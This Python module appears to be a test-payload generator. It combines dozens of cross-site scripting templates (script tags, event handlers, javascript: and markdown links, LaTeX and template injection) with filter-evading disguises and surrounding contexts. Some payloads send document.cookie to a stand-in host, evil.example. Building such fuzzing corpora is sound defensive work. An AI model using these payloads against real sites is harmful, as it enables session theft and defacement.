"""Strings that try to become code, built from rules: what begins a script × where it stands × how it is disguised.

`hostile()` gives thousands of distinct ones; a list file (one a line), named by XSS_LIST, is added to them.
"""

from __future__ import annotations

import html
import itertools
import os
from collections.abc import Iterator
from pathlib import Path

RUN = ("window.__ran=1", "alert(1)", "fetch('//evil.example/'+document.cookie)", "document.title='ran'")
EVENTS = ("onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onbegin", "onpointerenter")
TAGS = (
    "<script>{run}</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x {event}={run}>",
    '<img src="http://evil.example/p.png" {event}="{run}">',
    "<svg {event}={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate {event}={run} attributeName=x dur=1s>",
    "<body {event}={run}>",
    "<details open {event}={run}>",
    "<input autofocus {event}={run}>",
    "<video><source {event}={run}></video>",
    '<iframe src="javascript:{run}"></iframe>',
    '<iframe srcdoc="<script>{run}</script>"></iframe>',
    '<object data="javascript:{run}"></object>',
    "<embed src=//evil.example/x.swf>",
    "<form action=//evil.example><input name=q><button {event}={run}>x</button></form>",
    "<style>@import '//evil.example/x.css';body{{display:none}}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    "<base href=//evil.example/>",
    "<math><mtext><table><mglyph><style><img src=x {event}={run}>",
    '<noscript><p title="</noscript><img src=x {event}={run}>">',
    "<template><img src=x {event}={run}></template>",
    '<a href="javascript:{run}">x</a>',
    "[x](javascript:{run})",
    "[x](  java\tscript:{run})",
    "[x](data:text/html,<script>{run}</script>)",
    "[x](vbscript:{run})",
    "![x](http://evil.example/p.png)",
    "![x](javascript:{run})",
    '![x"{event}="{run}](http://evil.example/p.png)',
    '<http://evil.example/"{event}={run}>',
    "[x]: javascript:{run}\n\n[x]",
    "`<img src=x {event}={run}>`",
    "$\\href{{javascript:{run}}}{{x}}$",
    "$$\\unicode{{<img src=x {event}={run}>}}$$",
    ":red[<img src=x {event}={run}>]",
    ":material/<img src=x {event}={run}>:",
    "{{{{constructor.constructor('{run}')()}}}}",
    "${{{run}}}",
    "'-{run}-'",
    '"-{run}-"',
    "</textarea><img src=x {event}={run}>",
    "</title><script>{run}</script>",
    "--><script>{run}</script>",
    "]]><script>{run}</script>",
    "<x contenteditable {event}={run}>",
    '<a href=#x style="background:url(//evil.example/b.png)">x</a>',
)


def _as_is(text: str) -> str:
    return text


def _upper(text: str) -> str:
    return text.replace("script", "sCrIpT").replace("<img", "<IMG").replace("onerror", "OnErRoR")


def _slashes(text: str) -> str:
    return text.replace(" on", "/on").replace("<img src=x", "<img/src=x")


def _entities(text: str) -> str:
    return html.escape(text)


def _numbers(text: str) -> str:
    return "".join(f"&#{ord(char)};" for char in text)


def _full_width(text: str) -> str:
    return text.replace("<", "＜").replace(">", "＞")


def _split(text: str) -> str:
    return text.replace("script", "scr<script>ipt").replace("<img", "<<img")


def _null(text: str) -> str:
    return text.replace("<", "<\u200b").replace("=", "=\u00a0")


DISGUISES = (_as_is, _upper, _slashes, _entities, _numbers, _full_width, _split, _null)
AROUND = ("{}", '"><{}', "退款{}多久到账", "- {}", "> {}", "| a | {} |", "**{}**")


def hostile() -> list[str]:
    """Distinct strings, those of the list file after those of the rules."""
    return list(dict.fromkeys([*_built(), *_listed()]))


def _built() -> Iterator[str]:
    for number, (tag, disguise) in enumerate(itertools.product(TAGS, DISGUISES)):
        for turn, around in enumerate(AROUND):
            run, event = RUN[(number + turn) % len(RUN)], EVENTS[(number + turn) % len(EVENTS)]
            yield around.format(disguise(tag.format(run=run, event=event)))


def _listed() -> list[str]:
    path = os.environ.get("XSS_LIST")
    return [line for line in Path(path).read_text("utf-8", "replace").splitlines() if line.strip()] if path else []
